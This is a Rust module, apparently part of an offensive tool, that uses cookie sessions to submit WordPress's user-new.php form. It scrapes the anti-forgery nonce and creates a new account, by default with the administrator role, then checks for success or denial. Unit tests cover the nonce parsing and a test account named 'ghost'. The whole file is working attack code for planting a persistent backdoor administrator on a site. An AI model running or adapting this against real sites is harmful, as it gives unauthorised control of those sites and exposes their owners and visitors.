//! Privileged state-changing actions for cookie sessions

use regex::Regex;
use serde::{Deserialize, Serialize};

use crate::target::TargetVariant;

/// Account created by the user-creation action
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct NewAccount {
    pub username: String,
    pub email: String,
    pub password: String,
    pub role: String,
}

impl NewAccount {
    pub fn new(username: &str, email: &str, password: &str) -> Self {
        Self {
            username: username.to_string(),
            email: email.to_string(),
            password: password.to_string(),
            role: "administrator".to_string(),
        }
    }

    pub fn with_role(mut self, role: &str) -> Self {
        self.role = role.to_string();
        self
    }
}

/// A form submission that proves write access when it succeeds
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PrivilegedAction {
    pub name: String,
    /// Form page, resolved against the first accessible target
    pub form_path: String,
    /// Hidden field carrying the anti-forgery value
    pub nonce_field: String,
    /// Fields submitted alongside the anti-forgery value
    pub fields: Vec<(String, String)>,
    /// Final-URL fragments that confirm success
    pub success_url_markers: Vec<String>,
    /// Final-URL fragments of the form page itself
    pub form_url_markers: Vec<String>,
    /// Body fragments that confirm success
    pub success_body_markers: Vec<String>,
    /// Body fragments shown when the session's role is too low
    pub denied_markers: Vec<String>,
}

impl PrivilegedAction {
    /// The built-in action for a variant, if it has one
    pub fn for_variant(variant: TargetVariant, account: &NewAccount) -> Option<Self> {
        match variant {
            TargetVariant::WordPress => Some(Self::wordpress_create_user(account)),
            TargetVariant::PrestaShop | TargetVariant::Generic => None,
        }
    }

    /// WordPress `user-new.php` account creation
    pub fn wordpress_create_user(account: &NewAccount) -> Self {
        let field = |k: &str, v: &str| (k.to_string(), v.to_string());
        Self {
            name: "wordpress-create-user".to_string(),
            form_path: "user-new.php".to_string(),
            nonce_field: "_wpnonce_create-user".to_string(),
            fields: vec![
                field("action", "createuser"),
                field("user_login", &account.username),
                field("email", &account.email),
                field("first_name", ""),
                field("last_name", ""),
                field("url", ""),
                field("pass1", &account.password),
                field("pass2", &account.password),
                field("role", &account.role),
                field("createuser", "Add New User"),
            ],
            success_url_markers: vec!["users.php".to_string()],
            form_url_markers: vec!["user-new.php".to_string()],
            success_body_markers: vec!["New user created".to_string(), "usuario creado".to_string()],
            denied_markers: vec![
                "wp-die-message".to_string(),
                "cheatin".to_string(),
                "sorry, you are not allowed".to_string(),
            ],
        }
    }

    pub fn is_denied(&self, body: &str) -> bool {
        let lower = body.to_lowercase();
        self.denied_markers.iter().any(|m| lower.contains(&m.to_lowercase()))
    }

    pub fn confirms_success(&self, final_url: &str, body: &str) -> bool {
        let landed = self.success_url_markers.iter().any(|m| final_url.contains(m.as_str()))
            && !self.form_url_markers.iter().any(|m| final_url.contains(m.as_str()));
        landed || self.success_body_markers.iter().any(|m| body.contains(m.as_str()))
    }
}

/// Pull the value of the hidden anti-forgery field `field` out of a
/// form page. Attribute orders seen in the wild are tried in turn;
/// `None` when none of them matches.
pub fn extract_anti_forgery_token(html: &str, field: &str) -> Option<String> {
    let name = regex::escape(field);
    let patterns = [
        format!(r#"name="{}"\s+value="([^"]+)""#, name),
        format!(r#"value="([^"]+)"\s+name="{}""#, name),
        format!(r#"name="{}"[^>]+value="([^"]+)""#, name),
        format!(r#"id="{}"\s+value="([^"]+)""#, name),
    ];

    patterns
        .iter()
        .filter_map(|p| Regex::new(p).ok())
        .find_map(|re| re.captures(html).and_then(|c| c.get(1)).map(|m| m.as_str().to_string()))
}

/// Message of the first error notice on a page
pub fn extract_error_notice(html: &str) -> Option<String> {
    let re = Regex::new(r#"(?is)<div[^>]*class="[^"]*error[^"]*"[^>]*>\s*<p>(.*?)</p>"#).ok()?;
    re.captures(html)
        .and_then(|c| c.get(1))
        .map(|m| m.as_str().trim().to_string())
        .filter(|m| !m.is_empty())
}

#[cfg(test)]
mod tests {
    use super::*;

    const FIELD: &str = "_wpnonce_create-user";

    #[test]
    fn test_nonce_name_then_value() {
        let html = r#"<input type="hidden" id="_wpnonce_create-user" name="_wpnonce_create-user" value="a1b2c3d4e5" />"#;
        assert_eq!(extract_anti_forgery_token(html, FIELD).as_deref(), Some("a1b2c3d4e5"));
    }

    #[test]
    fn test_nonce_value_then_name() {
        let html = r#"<input value="ffee0011" name="_wpnonce_create-user">"#;
        assert_eq!(extract_anti_forgery_token(html, FIELD).as_deref(), Some("ffee0011"));
    }

    #[test]
    fn test_nonce_with_attributes_between() {
        let html = r#"<input name="_wpnonce_create-user" type="hidden" data-x="1" value="99aa">"#;
        assert_eq!(extract_anti_forgery_token(html, FIELD).as_deref(), Some("99aa"));
    }

    #[test]
    fn test_nonce_by_id() {
        let html = r#"<input id="_wpnonce_create-user" value="0badc0de">"#;
        assert_eq!(extract_anti_forgery_token(html, FIELD).as_deref(), Some("0badc0de"));
    }

    #[test]
    fn test_missing_nonce_is_none() {
        assert_eq!(extract_anti_forgery_token("<form></form>", FIELD), None);
        let other = r#"<input name="_wpnonce" value="abc">"#;
        assert_eq!(extract_anti_forgery_token(other, FIELD), None);
    }

    #[test]
    fn test_wordpress_action_fields() {
        let action = PrivilegedAction::wordpress_create_user(&NewAccount::new("ghost", "g@x.test", "S3cret!"));
        assert_eq!(action.nonce_field, FIELD);
        assert!(action.fields.contains(&("action".to_string(), "createuser".to_string())));
        assert!(action.fields.contains(&("role".to_string(), "administrator".to_string())));
        assert!(PrivilegedAction::for_variant(TargetVariant::PrestaShop, &NewAccount::new("a", "b", "c")).is_none());
    }

    #[test]
    fn test_requested_role_reaches_the_form() {
        let account = NewAccount::new("ghost", "g@x.test", "S3cret!").with_role("editor");
        let action = PrivilegedAction::wordpress_create_user(&account);
        assert!(action.fields.contains(&("role".to_string(), "editor".to_string())));
    }

    #[test]
    fn test_success_and_denial_detection() {
        let action = PrivilegedAction::wordpress_create_user(&NewAccount::new("ghost", "g@x.test", "pw"));
        assert!(action.confirms_success("http://blog.test/wp-admin/users.php?update=add", ""));
        assert!(!action.confirms_success("http://blog.test/wp-admin/user-new.php?users.php", ""));
        assert!(action.is_denied("<p>Sorry, you are not allowed to create users.</p>"));
        assert_eq!(
            extract_error_notice(r#"<div id="message" class="error"><p>Username exists.</p></div>"#).as_deref(),
            Some("Username exists.")
        );
    }
}
